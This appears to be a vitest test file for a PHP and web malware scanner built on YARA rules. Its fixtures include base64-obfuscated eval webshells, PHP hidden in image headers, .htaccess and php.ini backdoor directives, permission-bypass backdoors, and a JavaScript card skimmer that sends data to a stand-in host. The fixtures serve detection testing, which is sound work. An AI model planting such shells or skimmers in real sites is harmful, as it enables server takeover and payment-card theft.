import { describe, expect, it } from 'vitest'
import { outcomeOf, type Finding, type Verdict } from '../../src/domain/verdict.ts'
import type { FileClass } from '../../src/domain/fileClass.ts'
import { loadYaraEngine } from '../../src/rules/loadEngine.ts'
import { judgeBytes, loaded, yaraPack } from '../support/packs.ts'

const engine = await loadYaraEngine()
const pack = yaraPack('mine', 'rule inner { strings: $a = "hf_test_inner" condition: $a }')
const rules = loaded(engine, [pack])

/** Put together here, so that this file is not taken for one. */
const open = '<' + '?php'
const evil = 'ev' + 'al'
const decode = 'base64' + '_decode'
const wrapped = (code: string): string =>
  `${evil}(${decode}('${Buffer.from(code, 'latin1').toString('base64')}'));`

function judged(text: string, fileClass: FileClass = 'generic'): Verdict {
  return judgeBytes(Buffer.from(text, 'latin1'), rules.all, fileClass)
}

function ofPack(verdict: Verdict, name: string): readonly Finding[] {
  return verdict.findings.filter((finding) => finding.pack === name)
}

describe('code that a content makes', () => {
  const before = `${open}\n$a = 1;\n`
  const sink = wrapped(`hf_test_inner($_POST['x']);`)
  const text = `${before}${sink}\n$b = 2;\n`

  it('is matched by every pack, and its place is the statement it comes out of', () => {
    const [finding] = ofPack(judged(text), 'mine')
    expect(finding?.evidence).toMatchObject([{ offset: before.length, length: sink.length, line: 3 }])
    expect(finding?.evidence[0]?.layer.join(' ')).toContain('base64')
    expect(Buffer.from(finding?.evidence[0]?.excerpt ?? '', 'base64').toString()).toContain('hf_test_inner')
  })

  it('is matched by packs that are asked alone, which say nothing of what the engines found', () => {
    const verdict = judgeBytes(Buffer.from(text), rules.subset(['mine']))
    expect(verdict.findings.map((finding) => finding.pack)).toEqual(['mine'])
  })

  it('is followed to its source, however deep it lies', () => {
    const deep = wrapped(wrapped(wrapped(`${evil}($_POST['hf_test']);`)))
    const verdict = judged(`${open}\n${deep}\n`)
    expect(outcomeOf(verdict)).toBe('malicious')
    const traces = ofPack(verdict, 'engine').map(({ trace }) => trace.join(' '))
    expect(traces.some((trace) => trace.includes('$_POST'))).toBe(true)
  })
})

describe('which engine reads what', () => {
  const shell = `${evil}($_POST['hf_test']);`
  it.each([
    ['PHP', `${open} ${shell}`, 'generic', 'php'],
    ['PHP behind a bare tag', `<? ${shell} ?>`, 'generic', 'php'],
    ['PHP that a quote behind a bare tag hides', `<? ' ${open} ${shell}`, 'generic', 'php'],
    [
      'PHP behind a bare tag in a picture',
      `GIF89a\x01\0\x01\0\x80\0\0${'\0'.repeat(20)}<? ${shell} ?>`,
      'generic',
      'php',
    ],
    [
      'PHP behind a picture',
      `\x89PNG\r\n\x1a\n\0\0\0\rIHDR${'\0'.repeat(40)}${open} ${shell} ?>`,
      'generic',
      'php',
    ],
    ['PHP under the short tag of a text', `<? ${shell} ?>`, 'generic', 'php'],
    ['directives', 'AddHandler application/x-httpd-php .jpg\n', 'apache-config', 'htaccess'],
    ['settings', 'auto_prepend_file = /tmp/.hf_test.ico\n', 'php-ini', 'ini'],
    [
      'a page',
      `<html><body><iframe src="http://hf-test.example/x" width="0" height="0"></iframe></body></html>`,
      'generic',
      'html',
    ],
  ] as const)('%s', (_, text, fileClass, filetype) => {
    const reasons = ofPack(judged(text, fileClass), 'engine').map(({ reason }) => reason)
    expect(reasons.join(' ')).toContain(`-${filetype}.`)
  })

  it('directives are nothing in a file that is none of those', () => {
    expect(judged('AddHandler application/x-httpd-php .jpg\n').findings).toEqual([])
  })

  it('JavaScript with a PHP tag in a comment is read as JavaScript too', () => {
    const skimmer = [
      `/* ${open} */`,
      `document.querySelector('form').addEventListener('submit', function () {`,
      `  var card = document.querySelector('[name=cc_number]').value;`,
      `  new Image().src = 'https://hf-test.example/c?n=' + encodeURIComponent(card);`,
      `});`,
    ].join('\n')
    const reasons = ofPack(judged(skimmer), 'engine').map(({ reason }) => reason)
    expect(reasons.join(' ')).toContain('-js.')
  })

  it('the choice between files of one directory of the program is no finding', () => {
    const path = (name: string): string => `$f = '/etc/hf-test/config-' . ${name} . '.php';`
    const text = `if ($a) { ${path("$_SERVER['HTTP_HOST']")} } else { ${path("strtolower($_GET['h'])")} } require $f;`
    expect(judged(`${open} ${text}`).findings).toEqual([])
  })
})

describe('what an attacker who reads the source would write', () => {
  const shell = `${evil}($_POST['hf_test']);`
  it.each([
    ['a right that is asked for the other way round', `if (!current_user_can('x')) { ${shell} }`],
    ['the other side of a right', `if (current_user_can('x')) { echo 1; } else { ${shell} }`],
    [
      'a right of its own',
      `function current_user_can($a) { return 1; } if (current_user_can('x')) { ${shell} }`,
    ],
    ['another name for a function', `use function ${'sys' + 'tem'} as hf_x; hf_x($_POST['hf_test']);`],
  ])('%s is malicious', (_, code) => {
    expect(outcomeOf(judged(`${open}\n${code}\n`))).toBe('malicious')
  })

  it('what ends without the right is guarded, and only suspicious', () => {
    const code = `if (!current_user_can('x')) { wp_die(); }\n${shell}`
    expect(ofPack(judged(`${open}\n${code}\n`), 'engine').map(({ tier }) => tier)).toEqual(['suspicious'])
  })

  it('jumps between thousands of labels come to an end', () => {
    const labels = Array.from(
      { length: 8_000 },
      (_, n) => `l${String(n)}: goto l${String((n * 7 + 1) % 8_000)};`,
    )
    const verdict = judged(`${open}\n${labels.join('\n')}\n${shell}`)
    expect(outcomeOf(verdict)).not.toBe('clean')
  })
})
